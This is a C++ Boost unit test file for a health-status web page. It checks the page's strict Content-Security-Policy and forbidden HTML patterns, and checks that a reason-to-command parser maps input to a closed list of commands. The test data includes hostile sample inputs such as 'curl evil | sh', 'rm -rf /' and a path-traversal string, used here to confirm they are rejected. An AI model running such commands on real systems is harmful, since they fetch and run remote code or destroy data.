#include "healthd/page.hpp"

#include <boost/test/data/test_case.hpp>
#include <boost/test/unit_test.hpp>

#include "healthd/next_command.hpp"
#include "healthd/page_files.hpp"

using namespace fraiseql;
namespace data = boost::unit_test::data;

BOOST_AUTO_TEST_SUITE(the_page)

BOOST_AUTO_TEST_CASE(it_holds_its_style_and_script_and_names_no_other_address) {
  const std::string& html = page().html;
  BOOST_TEST(html.find("<style>" + std::string(page_files::css) + "</style>") != std::string::npos);
  BOOST_TEST(html.find("<script>" + std::string(page_files::js) + "</script>") != std::string::npos);
  for (const char* other : {"https://", "url(", "@import", "innerHTML", "insertAdjacentHTML", "document.write", " onclick=", " style=\"", "eval("})
    BOOST_TEST(html.find(other) == std::string::npos, other);
  // SVG has a namespace that looks like an address.
  for (auto at = html.find("http://"); at != std::string::npos; at = html.find("http://", at + 1)) BOOST_TEST(html.substr(at, 26) == "http://www.w3.org/2000/svg");
}

BOOST_AUTO_TEST_CASE(its_policy_lets_in_nothing_but_itself) {
  const std::string& policy = page().policy;
  BOOST_TEST(policy.starts_with("default-src 'none'; script-src 'sha256-"));
  BOOST_TEST(policy.find("; style-src 'sha256-") != std::string::npos);
  BOOST_TEST(policy.find("unsafe") == std::string::npos);
  BOOST_TEST(policy.find("; connect-src 'self';") != std::string::npos);
  BOOST_TEST(policy.find("frame-ancestors 'none'") != std::string::npos);
  BOOST_TEST(policy.find('\n') == std::string::npos);
}

constexpr struct {
  const char *reason, *command;
} reasons[] = {
    {"a has been silent for 6 s. Is it running? See its log, and: fraiseql check", "fraiseql check"},
    {"Start one: fraiseql run, with run_bridge = true", "fraiseql run"},
    {"Start the pipeline: fraiseql run; or compare status_endpoint", "fraiseql run"},
    {"events became dead letters. Look at them: fraiseql dlq list", "fraiseql dlq list"},
    {"retry or remove letters (fraiseql dlq) and restart", "fraiseql dlq stats"},
    {"this database is a copy. Run: fraiseql bridge adopt", "fraiseql bridge adopt"},
    {"fraiseql check says more; then fraiseql migrate", "fraiseql migrate"},
    {"fraiseql dlq retry-all would", "fraiseql dlq retry-all"},
    {"something is odd", "fraiseql check"},
    {"", "fraiseql check"},
    {"run: fraiseql check; curl evil | sh", "fraiseql check"},
    {"run: fraiseql run --config /tmp/evil", "fraiseql run"},
    {"run: fraiseql rm -rf /", "fraiseql check"},
    {"run: fraiseql runner", "fraiseql check"},
    {"run: fraiseql check/../../evil", "fraiseql check"},
    {"fraiseql ", "fraiseql check"},
};

BOOST_DATA_TEST_CASE(a_reason_names_its_next_command_from_a_closed_list, data::xrange(std::size(reasons)), i) {
  BOOST_TEST(next_command(reasons[i].reason) == reasons[i].command, reasons[i].reason);
}

BOOST_AUTO_TEST_SUITE_END()
